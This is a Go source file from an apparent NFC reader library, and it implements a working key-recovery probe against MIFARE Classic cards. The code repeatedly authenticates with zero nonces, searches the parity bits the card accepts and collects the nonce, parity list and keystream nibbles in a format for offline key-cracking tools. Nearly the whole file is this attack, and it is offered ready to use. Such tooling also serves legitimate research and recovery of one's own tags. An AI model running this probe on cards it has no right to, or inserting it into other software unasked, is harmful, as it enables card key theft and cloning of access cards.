// Copyright 2026 The Zaparoo Project Contributors.
// SPDX-License-Identifier: Apache-2.0
//
// Licensed under the Apache License, Version 2.0 (the "License");
// you may not use this file except in compliance with the License.
// You may obtain a copy of the License at
//
//     http://www.apache.org/licenses/LICENSE-2.0
//
// Unless required by applicable law or agreed to in writing, software
// distributed under the License is distributed on an "AS IS" BASIS,
// WITHOUT WARRANTIES OR CONDITIONS OF ANY KIND, either express or implied.
// See the License for the specific language governing permissions and
// limitations under the License.

package iso14443a

import (
	"bytes"
	"context"
	"encoding/binary"
	"errors"
	"fmt"

	"github.com/ZaparooProject/go-iso14443a/codec"
	"github.com/ZaparooProject/go-iso14443a/trace"
)

// probeAuth is AUTH key A for block 0 with its CRC.
var probeAuth = []byte{byte(KeyA), 0x00, 0xf5, 0x7b}

const (
	probeRounds = 8
	// nackParityError is the plain answer of a card that accepted the
	// parity bits of a wrong reader answer.
	nackParityError byte = 0x05
)

// ProbeResult holds what the key recovery probe collected: for every
// value of the three variable reader nonce bits, the parity byte that made
// the card answer and the keystream nibble of that answer.
type ProbeResult struct {
	UID     []byte
	Nonce   [4]byte
	ParList [probeRounds]byte
	KsList  [probeRounds]byte
}

// KeyRecoveryProbe drives repeated authentication attempts with an all
// zero reader nonce and answer, searching the parity bits a card accepts
// before it sends its encrypted NACK. The card must hand out the same
// nonce after every field reset. A non-zero knownNonce is skipped.
//
// The probe runs until all eight rounds are complete or ctx is done; in
// the latter case the partial result is returned with the error. The
// trace is suspended during the probe and receives the nonce, parity list
// and keystream list afterwards.
func (r *Reader) KeyRecoveryProbe(ctx context.Context, knownNonce uint32) (*ProbeResult, error) {
	tr := r.link.Trace()
	tr.Clear()
	tr.SetEnabled(false)

	res := &ProbeResult{}
	err := r.probe(ctx, knownNonce, res)

	tr.SetEnabled(true)
	tr.Record(res.Nonce[:], 0, codec.Parity(res.Nonce[:]), trace.FromTag)
	tr.Record(res.ParList[:], 0, codec.Parity(res.ParList[:]), trace.FromTag)
	tr.Record(res.KsList[:], 0, codec.Parity(res.KsList[:]), trace.FromTag)
	if ferr := r.link.FieldOff(context.WithoutCancel(ctx)); ferr != nil && err == nil {
		err = ferr
	}
	if err != nil {
		return res, err
	}
	Debugf("key recovery probe finished: nt %x par %x ks %x", res.Nonce, res.ParList, res.KsList)
	return res, nil
}

func (r *Reader) probe(ctx context.Context, knownNonce uint32, res *ProbeResult) error {
	var noAttack [4]byte
	binary.BigEndian.PutUint32(noAttack[:], knownNonce)

	nrAr := make([]byte, 8)
	var attacked []byte
	var ntDiff, par, parLow byte

	for {
		if err := r.fieldReset(ctx); err != nil {
			return err
		}

		sel, err := r.selectCard(ctx, false)
		if err != nil {
			if probeRetryable(err) {
				continue
			}
			return err
		}
		res.UID = sel.UID

		nt, err := r.exchange(ctx, probeAuth)
		if err != nil {
			if probeRetryable(err) {
				continue
			}
			return err
		}
		if len(nt) < 4 {
			continue
		}
		copy(res.Nonce[:], nt)

		answer, err := r.exchangeParity(ctx, nrAr, uint32(par))
		if err != nil {
			if !probeRetryable(err) {
				return err
			}
			if ntDiff == 0 {
				par++
			} else {
				par = ((par>>3)+1)<<3 | parLow
			}
			continue
		}
		if len(answer) == 0 {
			continue
		}

		if knownNonce != 0 && bytes.Equal(nt[:4], noAttack[:]) {
			continue
		}
		if attacked != nil && !bytes.Equal(nt[:4], attacked) {
			continue
		}
		if ntDiff == 0 {
			attacked = append([]byte(nil), nt[:4]...)
			parLow = par & 0x07
		}

		res.ParList[ntDiff] = par
		res.KsList[ntDiff] = answer[0] ^ nackParityError
		Debugf("probe round %d: par %02x ks %x", ntDiff, par, res.KsList[ntDiff])

		if ntDiff == probeRounds-1 {
			return nil
		}
		ntDiff++
		nrAr[3] = ntDiff << 5
		par = parLow
	}
}

// probeRetryable reports whether a probe step failed because the card
// stayed silent or answered garbage, as opposed to a front end failure.
func probeRetryable(err error) bool {
	return errors.Is(err, ErrTimeout) || errors.Is(err, ErrNoCard) ||
		errors.Is(err, ErrProtocolViolation) || errors.Is(err, ErrFrameTooLong)
}

// String formats the result the way offline key recovery tools read it.
func (p *ProbeResult) String() string {
	return fmt.Sprintf("uid %x nt %x par %x ks %x", p.UID, p.Nonce, p.ParList, p.KsList)
}
